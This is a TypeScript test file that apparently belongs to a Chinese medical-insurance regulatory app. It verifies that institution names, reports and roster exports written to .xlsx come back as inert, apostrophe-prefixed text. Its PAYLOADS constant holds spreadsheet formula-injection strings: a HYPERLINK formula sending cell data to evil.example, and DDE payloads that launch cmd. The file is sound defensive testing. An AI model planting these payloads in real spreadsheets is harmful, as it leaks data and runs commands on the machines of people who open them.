// Issue 13, point 4: user text that starts with = + - @ or a tab/CR, written into an exported
// .xlsx, must be text that no spreadsheet evaluates — also after the sheet is edited or saved as
// CSV. Each export is read back with exceljs and every cell's type and text checked.
import fs from "node:fs";
import path from "node:path";
import { sql } from "drizzle-orm";
import ExcelJS from "exceljs";
import { beforeEach, describe, expect, it } from "vitest";
import { buildAssessmentReport } from "~/models/report.server";
import { recomputeRiskInBatches } from "~/models/risk.server";
import { buildRosterProblemsWorkbook, createRosterImport } from "~/models/roster.server";
import { createSample } from "~/models/sample.server";
import * as riskExport from "~/routes/reg.risk.export";
import * as sampleExport from "~/routes/reg.samples.$sampleId.export";
import { db } from "~/utils/db.server";
import type { SubmissionSnapshot } from "~/domain/snapshot";
import { writeWorkbook } from "~/utils/spreadsheet.server";
import { BASE_URL, sessionCookieFor } from "../helpers";
import { openDemoCampaign, regionScope } from "../integration/fixtures";

const FORMULA_START = /^[=+\-@\t\r]/;
const PAYLOADS = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看详情")',
  dde: "+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  tab: "\t=1+1",
  cr: "\r=1+1",
};

/** Every cell that a spreadsheet would evaluate, and every text cell as read back. */
async function readBack(bytes: ArrayBuffer | Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as ArrayBuffer);
  const unsafe: string[] = [];
  const texts: string[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        const where = `${sheet.name}!${cell.address}`;
        if (cell.type === ExcelJS.ValueType.Formula) unsafe.push(`${where}: formula`);
        const value = cell.value as ExcelJS.CellValue;
        const text =
          cell.type === ExcelJS.ValueType.String
            ? (value as string)
            : cell.type === ExcelJS.ValueType.RichText
              ? (value as ExcelJS.CellRichTextValue).richText.map((r) => r.text).join("")
              : cell.type === ExcelJS.ValueType.Hyperlink
                ? String((value as ExcelJS.CellHyperlinkValue).text)
                : null;
        if (text === null) return;
        texts.push(text.replace(/\r\n?/g, "\n")); // XML turns a stored CR into LF
        if (FORMULA_START.test(text)) unsafe.push(`${where}: ${JSON.stringify(text)}`);
      }),
    ),
  );
  return { unsafe, texts };
}

async function download(
  route: { loader: (args: never) => unknown },
  url: string,
  user: { id: string },
  params: Record<string, string> = {},
) {
  const request = new Request(new URL(url, BASE_URL), { headers: { Cookie: await sessionCookieFor(user.id) } });
  const response = (await route.loader({ request, params, context: { requestId: "t", clientIp: "127.0.0.1" } } as never)) as Response;
  expect(response.status).toBe(200);
  return response.arrayBuffer();
}

describe("formula injection in .xlsx exports", () => {
  it("no module writes a workbook except through the one helper that neutralizes formulas", () => {
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
        const file = path.join(dir, entry.name);
        if (entry.isDirectory()) walk(file);
        else if (
          /\.(ts|tsx)$/.test(entry.name) &&
          !entry.name.endsWith(".test.ts") &&
          file !== path.join("app", "utils", "spreadsheet.server.ts")
        ) {
          if (/\.(xlsx|csv)\.(writeBuffer|write|writeFile)\s*\(/.test(fs.readFileSync(file, "utf8"))) offenders.push(file);
        }
      }
    };
    walk("app");
    expect(offenders).toEqual([]);
  });

  it("the helper writes each dangerous text as text, apostrophe first, in plain, rich-text and hyperlink cells", async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("测试");
    for (const payload of Object.values(PAYLOADS))
      sheet.addRow([
        payload,
        { richText: [{ text: payload }, { text: "尾" }] },
        { text: payload, hyperlink: "https://example.test" },
        42,
        "正常文字",
        "-",
      ]);
    const { unsafe, texts } = await readBack(await writeWorkbook(workbook));
    expect(unsafe).toEqual([]);
    for (const payload of Object.values(PAYLOADS)) expect(texts).toContain(`'${payload.replace("\r", "\n")}`);
    expect(texts).toContain("正常文字");
  });

  let s: Awaited<ReturnType<typeof openDemoCampaign>>;
  beforeEach(async () => {
    s = await openDemoCampaign();
    // What a regulator or an import may have typed as names.
    await db.execute(sql`update institutions set name = ${PAYLOADS.hyperlink} where id = ${s.hospital.id}`);
    await db.execute(sql`update institutions set name = ${PAYLOADS.dde} where id = ${s.pharmacy.id}`);
  });

  it("risk list and sample exports: institution names come back as text", async () => {
    await recomputeRiskInBatches(db, { cause: "test" });
    const sample = await createSample(db, regionScope(s.cityRegulator), {
      title: PAYLOADS.at,
      regionCode: "411300",
      periodStart: "2026-01-01",
      periodEnd: "2026-06-30",
      ratioPercent: 100,
      seed: "seed-1",
      inspectorsPerInstitution: 0,
    });
    if (!sample.ok) throw new Error("sample");
    for (const bytes of [
      await download(riskExport, "/reg/risk/export", s.cityRegulator),
      await download(sampleExport, `/reg/samples/${sample.id}/export`, s.cityRegulator, { sampleId: sample.id }),
    ]) {
      const { unsafe, texts } = await readBack(bytes);
      expect(unsafe).toEqual([]);
      expect(texts).toContain(`'${PAYLOADS.hyperlink}`);
      expect(texts).toContain(`'${PAYLOADS.dde}`);
    }
  });

  it("self-check report: descriptions, plans, people, file names and the institution come back as text", async () => {
    const snapshot: SubmissionSnapshot = {
      version: 1,
      submittedAt: "2026-11-23T16:30:00Z",
      submittedByName: PAYLOADS.minus,
      signerName: PAYLOADS.at,
      commitmentText: "本机构已对照问题清单逐项开展自查。",
      institution: {
        id: "i",
        name: PAYLOADS.hyperlink,
        kind: "hospital",
        nhsaCode: "H41130300012",
        creditCode: "91411303MA9XXXXXXX",
        regionName: "河南省南阳市卧龙区",
      },
      campaign: {
        id: "c",
        title: PAYLOADS.dde,
        checklistTitle: "清单",
        checklistDocNumber: "文号",
        reviewPeriodStart: "2021-05-01",
        reviewPeriodEnd: "2026-10-31",
        selfCheckDueOn: "2026-11-30",
        rectificationDueOn: "2027-02-28",
      },
      totals: { itemCount: 1, problemCount: 1, amountInvolvedFen: 100, refundedFen: 0, evidenceCount: 1 },
      items: [
        {
          checklistItemId: "ci",
          code: "1.1",
          section: "定点医疗机构",
          title: "重复收费",
          answer: "problem_found",
          description: PAYLOADS.tab,
          caseCount: 1,
          amountInvolvedFen: 100,
          refundedFen: 0,
          rectificationPlan: PAYLOADS.cr,
          responsiblePerson: PAYLOADS.at,
          rectificationDueOn: "2027-01-31",
          rectificationStatus: "open",
          rectifiedOn: null,
          evidence: [
            { id: "e", fileName: `${PAYLOADS.hyperlink}.pdf`, contentType: "application/pdf", sizeBytes: 10, sha256: "a".repeat(64) },
          ],
        },
      ],
    };
    const { unsafe, texts } = await readBack(await buildAssessmentReport(snapshot));
    expect(unsafe).toEqual([]);
    expect(texts).toContain(`'${PAYLOADS.tab}`);
    expect(texts).toContain(`'\n=1+1`); // PAYLOADS.cr as XML gives it back
  });

  it("roster problems workbook: what was written in the bad rows comes back as text", async () => {
    const header = "机构名称,机构类别,医院等级,经营性质,行政区划代码,医保定点编码,统一社会信用代码,联系人,联系电话,电子邮箱";
    const rows = [
      `${JSON.stringify(PAYLOADS.hyperlink).replace(/\\"/g, '""')},医院,二级,公立,${PAYLOADS.minus},${PAYLOADS.at},${PAYLOADS.dde},${PAYLOADS.at},${PAYLOADS.minus},x`,
    ];
    const created = await createRosterImport(db, regionScope(s.cityRegulator), {
      name: "名单.csv",
      bytes: Buffer.from([header, ...rows].join("\n")),
    });
    if (!created.ok) throw new Error(created.error);
    const { body } = await buildRosterProblemsWorkbook(db, regionScope(s.cityRegulator), created.id);
    const { unsafe, texts } = await readBack(body);
    expect(unsafe).toEqual([]);
    expect(texts).toContain(`'${PAYLOADS.hyperlink}`);
  });
});
